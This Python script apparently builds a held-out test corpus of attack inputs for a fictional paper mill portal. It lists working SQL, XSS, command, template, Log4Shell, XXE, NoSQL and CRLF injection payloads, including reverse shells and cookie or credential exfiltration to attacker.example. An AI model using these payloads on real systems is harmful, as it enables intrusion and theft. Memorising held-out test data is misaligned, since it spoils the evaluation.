#!/usr/bin/env python3
"""Attack values for the papermill held-out corpus (paper mill operations portal)."""
import json
import os
import random

SEED = 32802
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

# (category, class, value) hand-written literals
L = []


def add(cat, cls, *vals):
    for v in vals:
        L.append((cat, cls, v))


# ---------------- sqli ----------------
add("sqli", "sqli-tautology",
    "reel 0871' OR '1'='1",
    "2417' or 2>1-- -",
    "R-88' OR 'x'='x' --",
    "Hollis') OR ('a'='a",
    "0871-03\" OR \"\"=\"",
    "PM2' OR 1=1#",
    "batch 2417' oR 7 like 7 -- ",
    "x' || '1'='1",
    "MT-3318' OR true-- ",
    "order' or 'paper'<>'pulp",
)
add("sqli", "sqli-union",
    "reel 0871' UNION SELECT username, password_hash FROM portal_users-- -",
    "R-88' union all select null,recipe_secret,null from recipes_private--",
    "-1 UNION SELECT 1,@@version,3,4",
    "2417' UnIoN SeLeCt table_name,2 FROM information_schema.tables WHERE table_schema=database()#",
    "10488' union/**/select/**/api_key,null/**/from/**/integrations--",
    "0' union select group_concat(email,0x3a,pwd),2 from staff-- -",
    "kraft'/*!50000UNION*//*!50000SELECT*/1,user(),3-- -",
    "x') union select name, sql from sqlite_master--",
    "9999 union distinct select customer_email,credit_limit from customers",
    "felt' UNION SELECT column_name,NULL FROM information_schema.columns WHERE table_name='users'--",
    "R-1' uNiOn%0aSeLeCt%0a1,2,3--",
    "-5' UNION SELECT 1,load_file('/etc/passwd'),3-- -",
)
add("sqli", "sqli-stacked",
    "reel 0871'; DROP TABLE batch_sheets;--",
    "2417; update users set role='admin' where login='night_shift'--",
    "Hollis'; INSERT INTO portal_users(login,pw,role) VALUES('mill','x','admin');--",
    "R-88'; delete from quality_results where reel like '2417%';--",
    "x'; EXEC xp_cmdshell 'whoami';--",
    "0871'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--",
    "1; CREATE TABLE pwn(x text); COPY pwn FROM PROGRAM 'id';--",
    "order 10488'; TRUNCATE customer_orders; --",
    "R-41'; ALTER USER portal WITH SUPERUSER;--",
    "t'; SHUTDOWN WITH NOWAIT;--",
)
add("sqli", "sqli-time",
    "reel 0871' AND SLEEP(5)-- -",
    "2417' AND (SELECT 1 FROM (SELECT SLEEP(7))a)-- ",
    "R-88'; WAITFOR DELAY '0:0:6';--",
    "x' || pg_sleep(8)--",
    "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
    "Hollis' AND BENCHMARK(9000000,MD5('pulp'))#",
    "felt'); SELECT CASE WHEN (1=1) THEN pg_sleep(4) ELSE pg_sleep(0) END--",
    "0871' AND 1=(SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3)--",
    "MT-3310' and if(substring(version(),1,1)='8',sleep(6),0)-- -",
    "kraft' AND randomblob(500000000)--",
)
add("sqli", "sqli-boolean-blind",
    "0871' AND SUBSTRING((SELECT password FROM users WHERE login='admin'),1,1)='a'--",
    "2417' and ascii(substr((select pw from staff limit 1),1,1))>77-- -",
    "R-88' AND (SELECT COUNT(*) FROM users)>0 AND '1'='1",
    "x' AND EXISTS(SELECT * FROM api_tokens WHERE token LIKE 'sk_%')--",
    "Hollis' and length(database())=6#",
    "10488 AND 1=(CASE WHEN (SELECT user)='postgres' THEN 1 ELSE 0 END)",
    "reel' AND mid(@@version,1,1)>'4",
    "felt' RLIKE (SELECT CASE WHEN 1=1 THEN 1 ELSE 0x28 END)-- -",
)
add("sqli", "sqli-error",
    "0871' AND extractvalue(1,concat(0x7e,(select user()),0x7e))-- -",
    "2417' AND updatexml(null,concat(0x3a,(SELECT password FROM users LIMIT 1)),null)#",
    "R-88' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    "x' AND 1=cast((select current_user) as int)--",
    "Hollis' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- ",
    "kraft' AND CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))=1--",
)
add("sqli", "sqli-orderby-numeric",
    "grammage ORDER BY 9-- -",
    "reel_no,(SELECT CASE WHEN (1=1) THEN reel_no ELSE weight END)",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "created_at desc, (select sleep(5))",
    "3 HAVING 1=1--",
)
add("sqli", "sqli-obfuscated",
    "0871'/**/oR/**/1/**/=/**/1/**/--/**/",
    "2417%27%20or%20%271%27%3D%271",
    "R-88%2527%2520union%2520select%25201,2--",
    "x'+UnIoN+aLl+SeLeCt+NULL,pw+FrOm+users--+",
    "0871ʼ OR 1=1--",
    "Hollis'%0bor%0b1=1--",
    "reel' /*!or*/ 0x31=0x31-- -",
    "felt'||(sElEcT cHaR(97)||cHaR(100)||cHaR(109))||'",
    "10488'%09AND%09SLEEP(5)%23",
    "2417'　OR　'1'＝'1",
    "R-1' OR 1=1;%00",
)
add("sqli", "sqli-outofband",
    "0871' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\x'))-- -",
    "x'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'",
    "2417'; SELECT * INTO OUTFILE '/var/www/html/s.php' FROM (SELECT '<?php system($_GET[c]);?>') t;--",
)

# ---------------- xss ----------------
add("xss", "xss-script",
    "Reel 0871 looks fine <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "<script>new Image().src='//198.51.100.7/k?c='+encodeURIComponent(document.cookie)</script>",
    "Handover: all good</textarea><script>alert(document.domain)</script>",
    "<ScRiPt src=//attacker.example/mill.js></sCrIpT>",
    "Hollis order\"><script>location='https://attacker.example/?'+localStorage.token</script>",
    "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nKQ=='))</script>",
    "recipe note</title><script>document.write('<img src=//attacker.example/'+document.cookie+'>')</script>",
    "<script\n>alert`1`</script\n>",
    "<script>setTimeout('al'+'ert(1)',0)</script> shift B",
    "'; alert(String.fromCharCode(88,83,83)); var x='",
    "\";fetch('//attacker.example/'+document.cookie);//",
    "</script><script>alert(1)</script>",
)
add("xss", "xss-event-handler",
    "<img src=x onerror=alert(document.cookie)> reel 5 photo",
    "<svg onload=fetch('//attacker.example/'+document.cookie)>",
    "<body onload=alert(1)>",
    "Felt noisy <img src=/nope.png onerror=\"this.src='//attacker.example/?'+document.cookie\">",
    "<input autofocus onfocus=alert(origin)>",
    "<details open ontoggle=alert(1)>QA hold</details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<marquee onstart=alert(1)>Harbour Blue</marquee>",
    "<div onmouseover=\"alert(1)\" style=\"position:fixed;inset:0\">order 10488</div>",
    "\" onmouseover=\"alert(document.domain)\" x=\"",
    "' autofocus onfocus='fetch(`//attacker.example/${document.cookie}`)' a='",
    "<iMg SrC=1 oNeRrOr=confirm(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img/src/onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>kraft 70</option></select>",
    "<a onpointerenter=alert(1)>dye lot D-2291</a>",
    "<body onpageshow=alert(1)>",
    "<svg/onload=self[`al`+`ert`](1)>",
    "<img src=x onerror=import('//attacker.example/x.js')>",
)
add("xss", "xss-url-scheme",
    "<a href=\"javascript:alert(document.cookie)\">open batch sheet</a>",
    "[see CoA](javascript:alert(1))",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"jav&#x09;ascript:alert(1)\">supplier portal</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">CoA</a>",
    "<form action=javascript:alert(1)><button>Submit order</button></form>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<iframe srcdoc=\"&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;\"></iframe>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\" JaVaScRiPt:alert(1)\">reel 7</a>",
    "![reel photo](x\" onerror=\"alert(1))",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>",
)
add("xss", "xss-encoded",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=\\u0061lert(1)>",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;</script></svg>",
)
add("xss", "xss-dom-css-misc",
    "<style>@import'//attacker.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">shift log</div>",
    "<base href=\"//attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<link rel=import href=\"//attacker.example/x.html\">",
    "<template><img src=x onerror=alert(1)></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "Cobb60 22 g/m² <img src=\"x\"/onerror=\"window['fe'+'tch']('//attacker.example/q?'+document.cookie)\">",
    "Moisture 6.9%<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>details</text></a></svg>",
    "Dock B note<!--><img src=x onerror=alert(1)>-->",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(document.cookie)>\">",
)

# ---------------- cmdi ----------------
add("cmdi", "cmdi-separator",
    "pm2_2024-05-14.xml; cat /etc/passwd",
    "reel0871.pdf && curl -s http://attacker.example/m.sh | sh",
    "bond080.cfg | nc 203.0.113.9 4444 -e /bin/sh",
    "2417 || wget -qO- http://198.51.100.23/x | bash",
    "labels.csv; rm -rf /opt/dcs/profiles",
    "R-88.txt & whoami",
    "logo_wm.svg;id;uname -a",
    "0871-03\nbash -i >& /dev/tcp/203.0.113.50/9001 0>&1",
    "coa-88231.pdf%0Acat%20/etc/shadow",
    "report.xlsx|ls -la /home",
    "shift_b.log;ping -c 4 attacker.example",
    "scan.png' ; curl attacker.example/$(whoami) ; '",
    "backup.tar\" && cat ~/.ssh/id_rsa | curl -d @- http://attacker.example/k \"",
    "PM2 ; /bin/busybox telnetd -l /bin/sh -p 2323",
    "0871 &&  powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\"",
    "order.csv & type C:\\Windows\\win.ini",
    "D-2291|| certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe",
    "ticket.txt;echo bWlsbCBwd25lZA==|base64 -d|sh",
    "label.zpl\r\nnet user mill P@ss1 /add",
    "x;python3 -c 'import os;os.system(\"id\")'",
)
add("cmdi", "cmdi-substitution",
    "reel_$(id).pdf",
    "batch-`whoami`.csv",
    "R-88 $(curl -s attacker.example/s|sh)",
    "photo_`cat /etc/hostname`.jpg",
    "2417$(sleep 10)",
    "log $(nslookup $(whoami).attacker.example)",
    "felt-${IFS}cat${IFS}/etc/passwd",
    "a$(printf '\\x63\\x61\\x74')${IFS}/etc/passwd",
    "MT-3318 `wget http://198.51.100.40/b -O /tmp/b;chmod +x /tmp/b;/tmp/b`",
    "$(echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3J8c2g= | base64 -d | bash)",
    "profile_$((7*191)).cfg;cat$IFS/proc/self/environ",
    "sheet <(curl attacker.example/x)",
)
add("cmdi", "cmdi-obfuscated",
    "reel;c''at /e''tc/pa''ss''wd",
    "0871;/???/c?t /???/p?ss??",
    "2417;w\\h\\o\\a\\m\\i",
    "x;{cat,/etc/passwd}",
    "a;$u`$u`ca$@t /etc/passwd",
    "b|c\"u\"rl attacker.example|s\"h\"",
    "c;X=$'\\x63\\x61\\x74';$X /etc/group",
    "R-88;${PATH:0:1}bin${PATH:0:1}sh -c id",
    "d%3Bid",
    "e%26%26whoami",
    "f%7Ccat%20%2Fetc%2Fpasswd",
    "g;cmd /c \"set x=who&& call %x%ami\"",
    "h&&p^o^w^e^r^s^h^e^l^l -c whoami",
    "i;tac</etc/passwd",
    "j;IFS=,;`cat<<<cat,/etc/passwd`",
    "k;$(rev<<<'dwssap/cte/ tac')",
    "l;eval \"$(echo 6964|xxd -r -p)\"",
    "m;cat /e*c/sh*w",
)
add("cmdi", "cmdi-argument",
    "--output=/var/www/html/x.php reel0871",
    "-o ProxyCommand='sh -c \"curl attacker.example|sh\"' mill@10.0.0.4",
    "report.pdf --checkpoint=1 --checkpoint-action=exec=sh\\ x.sh",
    "-exec /bin/sh -c id ;",
    "--post-file=/etc/passwd http://attacker.example/",
    "-oN /tmp/x --script=/tmp/e.nse 10.0.0.0/24",
    "reel.png -write /var/www/html/shell.php",
    "--use-compress-program='sh -c id' -cf /tmp/t.tar .",
)
add("cmdi", "cmdi-windows",
    "0871 & net localgroup administrators mill /add",
    "R-88 | powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA",
    "order.pdf && mshta http://attacker.example/p.hta",
    "x | rundll32.exe \\\\203.0.113.5\\s\\e.dll,Run",
    "label & bitsadmin /transfer j http://attacker.example/a.exe C:\\Users\\Public\\a.exe",
    "2417 & reg save HKLM\\SAM C:\\Users\\Public\\s",
    "batch.txt & wmic process call create \"calc.exe\"",
)

# ---------------- traversal ----------------
add("traversal", "traversal-dotdot",
    "../../../../etc/passwd",
    "profiles/pm2/../../../../../etc/shadow",
    "coa/../../../../../../root/.ssh/id_rsa",
    "..\\..\\..\\..\\Windows\\win.ini",
    "reel_photos/..\\..\\..\\inetpub\\wwwroot\\web.config",
    "labels/../../../../proc/self/environ",
    "../../../../var/log/nginx/access.log",
    "../../../app/.env",
    "../../config/database.yml",
    "/var/www/portal/uploads/../../../../etc/hosts",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\system.ini",
    "batch_2417.pdf/../../../../../etc/passwd",
    "../../../../../../../../../../../../etc/passwd",
    "../../../home/mill/.bash_history",
    "../../../../opt/dcs/profiles/pm2/../../../etc/shadow",
)
add("traversal", "traversal-encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fshadow",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fwindows%252fwin.ini",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "．．／．．／．．／etc／passwd",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "%2e%2e%5c%2e%2e%5cboot.ini",
    "..%255c..%255c..%255cwindows%255csystem32%255cdrivers%255cetc%255chosts",
)
add("traversal", "traversal-absolute-wrapper",
    "/etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=../config.php",
    "reel0871.pdf%00.jpg",
    "../../../../etc/passwd\\u0000.png",
    "/proc/self/cwd/config/secrets.yml",
    "\\\\203.0.113.5\\share\\x.pdf",
    "zip://uploads/reel.zip%23../../../../etc/passwd",
    "/../../../../../etc/passwd%00",
    "phar://uploads/photo.jpg/test.txt",
    "/static/reels/..;/..;/..;/WEB-INF/web.xml",
    "photos/2417/%2e%2e/%2e%2e/%2e%2e/%2e%2e/var/lib/mill/portal.sqlite",
    "..//..//..//..//etc//passwd",
)

# ---------------- ssrf ----------------
add("ssrf", "ssrf-metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/api/token",
    "http://169.254.170.2/v2/credentials",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
)
add("ssrf", "ssrf-internal",
    "http://127.0.0.1:8080/admin/users",
    "http://localhost:6379/",
    "http://192.168.10.42/plc/config",
    "http://10.0.0.5:9200/_cat/indices",
    "http://172.16.0.10:2375/containers/json",
    "http://dcs-historian.internal:8086/query?q=SHOW+DATABASES",
    "http://127.0.0.1:15672/api/users",
    "https://portal.northwoodpulp.example/orders?po=1@127.0.0.1:22/",
    "http://localhost/server-status",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://10.10.1.1/cgi-bin/luci",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
)
add("ssrf", "ssrf-alt-ip",
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://017700000001:8080/",
    "http://127.1/",
    "http://0/",
    "http://[::1]:8080/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://169.254.43518/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127.0.0.1.nip.io/admin",
)
add("ssrf", "ssrf-scheme",
    "gopher://127.0.0.1:6379/_SET%20x%20%22pwn%22%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///proc/self/environ",
    "ftp://10.0.0.8/backup/db.sql",
    "ldap://127.0.0.1:389/dc=mill,dc=local",
    "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A",
    "tftp://203.0.113.9/pm2.cfg",
    "jar:http://attacker.example/x.zip!/file.txt",
    "netdoc:///etc/passwd",
)
add("ssrf", "ssrf-bypass",
    "https://portal.northwoodpulp.example@127.0.0.1/",
    "http://attacker.example#@portal.northwoodpulp.example/",
    "http://127.0.0.1%23@portal.northwoodpulp.example/",
    "http://redirect.attacker.example/?to=http://169.254.169.254/latest/meta-data/",
    "http://localtest.attacker.example:80/",
    "http://127。0。0。1/",
    "http://loc%61lhost/admin",
    "Supplier portal: http://0.0.0.0:8000/debug/vars",
    "CoA link http://[0:0:0:0:0:ffff:7f00:1]/",
)

# ---------------- code ----------------
add("code", "ssti",
    "Dear {{customer}}, {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['eval'](\"__import__('os').system('id')\") }}{% endif %}{% endfor %}",
    "{{request.application.__globals__.__builtins__.open('/etc/passwd').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$x",
    "{{= global.process.mainModule.require('child_process').execSync('id') }}",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "{{ lipsum.__globals__['os'].popen('uname -a').read() }}",
    "{php}echo shell_exec('id');{/php}",
    "{system('id')}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "#{7*7}${{7*7}}{{config.items()}}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/app/.env').read() }}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{range.constructor(\"return process.env\")()}}",
)
add("code", "expression-language",
    "${pageContext.request.getSession().getServletContext()}",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec('curl attacker.example')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "${{\"\".getClass().forName(\"java.lang.System\").getenv()}}",
    "#{session.setAttribute(\"role\",\"admin\")}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
)
add("code", "log4shell",
    "${jndi:ldap://attacker.example:1389/a}",
    "reel 0871 ${jndi:rmi://203.0.113.77/x}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/e}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.8/o}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/q}",
    "Mozilla/5.0 ${jndi:${lower:L}${lower:D}AP://attacker.example/ua}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fb%7D",
    "${jndi:ldaps://${hostName}.attacker.example/c}",
)
add("code", "eval-injection",
    "__import__('os').system('curl attacker.example/p|sh')",
    "require('child_process').exec('nc 203.0.113.9 4444 -e sh')",
    "'); process.exit(1); //",
    "1;phpinfo();",
    "\".system('id').\"",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "exec(\"import socket,subprocess;s=socket.socket();s.connect(('203.0.113.4',9001))\")",
    "@{Runtime.getRuntime().exec(\"id\")}",
    "';}system($_GET['c']);/*",
    "Function('return this')().process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "<?php echo shell_exec($_REQUEST['q']); ?>",
    "`${require('child_process').execSync('id')}`",
)
add("code", "prototype-pollution",
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process').execSync('id').toString())//",
    "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    "{\"settings\":{\"__proto__\":{\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}",
    "__proto__.toString=1",
)
add("code", "csv-formula",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Click for CoA\")",
    "+cmd|'/c powershell iwr attacker.example/x|iex'!A1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://attacker.example/leak?\"&ENCODEURL(C2))",
    "Hollis Print;=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "\t=1+1+cmd|' /C whoami'!A1",
    "10488,=IMAGE(\"https://attacker.example/t.png?\"&D4)",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE coa [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><coa><lot>&x;</lot></coa>",
    "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><order/>",
    "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><settings>&m;</settings>",
    "<!DOCTYPE a [<!ENTITY a0 \"pulp\"><!ENTITY a1 \"&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;\"><!ENTITY a2 \"&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;\"><!ENTITY a3 \"&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;\">]><x>&a3;</x>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///app/.env\">]><text>&f;</text></svg>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>",
    "<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\"><batch>2417</batch>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hosts\">]><r>&e;</r>",
)
add("code", "deserialization",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABdAAEZXhlY3QAAmlkeA==",
    "!!python/object/apply:os.system [\"curl attacker.example/y|sh\"]",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
    "cos\nsystem\n(S'id'\ntR.",
    "a:2:{i:0;O:19:\"Monolog\\Handler\\Sys\":0:{}i:1;s:2:\"id\";}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "--- !ruby/object:Gem::Installer\ni: x\n",
    "{\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('curl attacker.example')}()\"}",
)

# ---------------- nosqli ----------------
add("nosqli", "nosqli-operator",
    "{\"$ne\": null}",
    "{\"reel\": {\"$gt\": \"\"}}",
    "{\"username\": \"admin\", \"password\": {\"$ne\": \"x\"}}",
    "{\"$or\": [{\"role\": \"admin\"}, {\"_id\": {\"$exists\": true}}]}",
    "{\"customer\": {\"$regex\": \".*\"}}",
    "{\"password\": {\"$regex\": \"^a\"}}",
    "{\"order_id\": {\"$in\": [10488, {\"$gt\": 0}]}}",
    "{\"$nin\": [\"\"]}",
    "{\"batch\": {\"$exists\": true}, \"$comment\": \"dump\"}",
    "{\"login\":{\"$eq\":\"night_shift\"},\"pin\":{\"$gte\":\"\"}}",
    "{\"lot\": {\"$not\": {\"$size\": 0}}}",
    "{\"$expr\": {\"$eq\": [1, 1]}}",
)
add("nosqli", "nosqli-js",
    "{\"$where\": \"sleep(5000) || true\"}",
    "'; return true; var x='",
    "1' || this.password.match(/^a/) || '",
    "{\"$where\": \"function(){ return this.role == 'admin' }\"}",
    "0871'; while(true){}; '",
    "{\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}",
    "\"; db.users.drop(); var y=\"",
)
add("nosqli", "nosqli-param",
    "password[$ne]=x",
    "reel[$regex]=.*&reel[$options]=si",
    "login[$gt]=&pin[$gt]=",
    "customer[$nin][]=nobody",
    "filter[status][$ne]=archived&filter[$where]=1",
    "username=admin&password[%24ne]=",
    "user[$exists]=true",
    "{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}",
)

# ---------------- crlf ----------------
add("crlf", "crlf-log-forging",
    "reel 0871 OK\n2024-06-14 06:00:01 INFO user=admin action=release_all_holds result=success",
    "Shift B: quiet\r\n[AUDIT] 2024-06-14T02:11:09Z login ok user=qa_lead ip=10.0.0.2",
    "2417%0a[INFO] password reset for admin approved",
    "MT-3318 closed%0d%0aERROR db dump completed to /tmp/all.sql",
    "Handover done\n\n--- END OF LOG ---\nsafety incidents today: 0",
    "search=pinholes%0D%0A127.0.0.1 - admin [14/Jun/2024:06:00:00] \"GET /admin/export HTTP/1.1\" 200",
    "felt noisy\u2028[WARN] QA override by M. Kowalczyk",
    "test%E5%98%8A%E5%98%8DInjected: log line",
)
add("crlf", "crlf-header-injection",
    "reel0871.pdf\r\nSet-Cookie: session=attacker; Path=/",
    "/orders%0d%0aLocation:%20https://attacker.example/",
    "en%0D%0ASet-Cookie:%20role%3Dadmin",
    "download.csv%0d%0aContent-Disposition:%20attachment;%20filename=invoice.exe",
    "x%0d%0aX-Forwarded-For:%20127.0.0.1",
    "%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example",
    "lang=de%E5%98%8D%E5%98%8ASet-Cookie:pwn=1",
    "/batch/2417%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<script>alert(1)</script>",
    "report\r\n\r\n<html><body>Session expired, log in at https://attacker.example</body></html>",
    "next=/dashboard%0d%0aRefresh:%200;url=https://attacker.example/",
)
add("crlf", "crlf-mail-header",
    "orders@hollisprint.example\r\nBcc: all-staff@attacker.example",
    "Re: order 10488\nCc: procurement@attacker.example\nSubject: urgent bank change",
    "qa@mill.example%0ABcc:list@attacker.example",
    "Hollis Print\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>pay invoice</a>",
